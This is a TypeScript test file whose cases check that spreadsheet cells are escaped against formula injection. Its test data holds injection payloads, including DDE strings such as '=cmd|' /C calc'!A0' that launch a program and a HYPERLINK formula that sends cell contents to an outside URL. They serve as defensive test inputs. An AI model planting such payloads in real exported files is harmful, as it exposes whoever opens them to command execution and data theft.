import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { anyText } from '../../../../src/contract/any-text.fixture.ts';
import { escapeFormula, unescapeFormula } from './formulas.ts';

describe('a cell that no spreadsheet reads as a formula is unchanged', () => {
  it.each([
    ...['-5', '+3.2', '-1,5', '-1e9', '-.5', '+5%', '-5 %', '-$5', '-5 €', '-1,234.50', "-1'000", '-1 234,5', '－５'],
    ...['+33 6 12', '+33 6 12 34 56 78', '+49 (0) 170-123-45', '+1-555-0100', '+1 (555) 0100', '+44.20.7946.0958'],
    ...['+33 6 12 34, +33 6 12 35', '+33 6 12 34 / +33 1 12 35'],
    ...['-', '+', '=', '@', '--', '---', '+/-', '-/-', '=)', '- - -', '+-', '—', '…'],
    ...['-33.8688, 151.2093', '-33.8688,151.2093', '+48.8577+002.2950/', '-1.2921 36.8219', '-23-046/'],
    ...['-5-10', '-3 – 4', '-10..10', '-1/2', '-01:30', '-44-03-15', '+10:00'],
    ...['\tplain', '\nplain', 'a=b', ' -5', '\u00a0+33 6 12', "'quoted'", "it's", "'", "''", ''],
    ...['5+5', 'x@y.org', '2024-01-31'],
  ])('%j', (cell) => {
    expect(escapeFormula(cell)).toBe(cell);
    expect(unescapeFormula(cell)).toBe(cell);
  });
});

describe('a cell that may be a formula gets an apostrophe', () => {
  it.each([
    ...[' =1', '\u00a0=A1', '\u3000=A1', '\ufeff=A1', '\u200b=A1', ' \u200b @SUM(A1)', '\u00a0\t=A1'],
    ...['=1+1', '=A1', '@SUM(A1)', '@home', '+A1', '-A1', '-cmd', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
    ...['＝1+1', '\t=1', '\r=1', '\n=1', '\n  =A1', '-5+2', '+SUM(1)', '=""', '={1}', '-1*2', '=-5', '@_@'],
    '- first point',
    ...["'=1+1", "''=1+1", "'-cmd", "'\t=1"],
  ])('%j', (cell) => {
    expect(escapeFormula(cell)).toBe(`'${cell}`);
    expect(unescapeFormula(`'${cell}`)).toBe(cell);
  });
});

describe('a part of a cell that may be a formula gets an apostrophe: many systems divide cells at semicolons', () => {
  it.each([
    ["x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
    ['a; =SUM(A1)', "a;' =SUM(A1)"],
    ['a;\u00a0=SUM(A1)', "a;'\u00a0=SUM(A1)"],
    [';@SUM(A1)', ";'@SUM(A1)"],
    ['a\n=HYPERLINK("http://x?"&A1)', 'a\n\'=HYPERLINK("http://x?"&A1)'],
    ['a;\n+SUM (A1)', "a;\n'+SUM (A1)"],
    ["a\t-1+'[b]c'!A1", "a\t'-1+'[b]c'!A1"],
    ["x;'=SUM(A1)", "x;''=SUM(A1)"],
    ['=a;=SUM(1)', "'=a;'=SUM(1)"],
  ])('%j', (cell, escaped) => {
    expect(escapeFormula(cell)).toBe(escaped);
    expect(unescapeFormula(escaped)).toBe(cell);
  });

  it.each(['nice ;-D', 'a;-b', 'List:\n- one\n- two words (or so)\n- three!', '+33 6;+33 7', 'a; -b'])(
    '%j is unchanged',
    (cell) => expect(escapeFormula(cell)).toBe(cell),
  );
});

describe('after removing it, every cell is as before', () => {
  const piece = fc.constantFrom(...'=+-@\'\t\n 1,.(|＝é";!', 'A1');
  const cell = fc.oneof(
    anyText(),
    fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
  );

  it('with any content', () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(unescapeFormula(escapeFormula(text))).toBe(text);
        expect(escapeFormula(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
      }),
      { numRuns: 3000 },
    );
  });
});
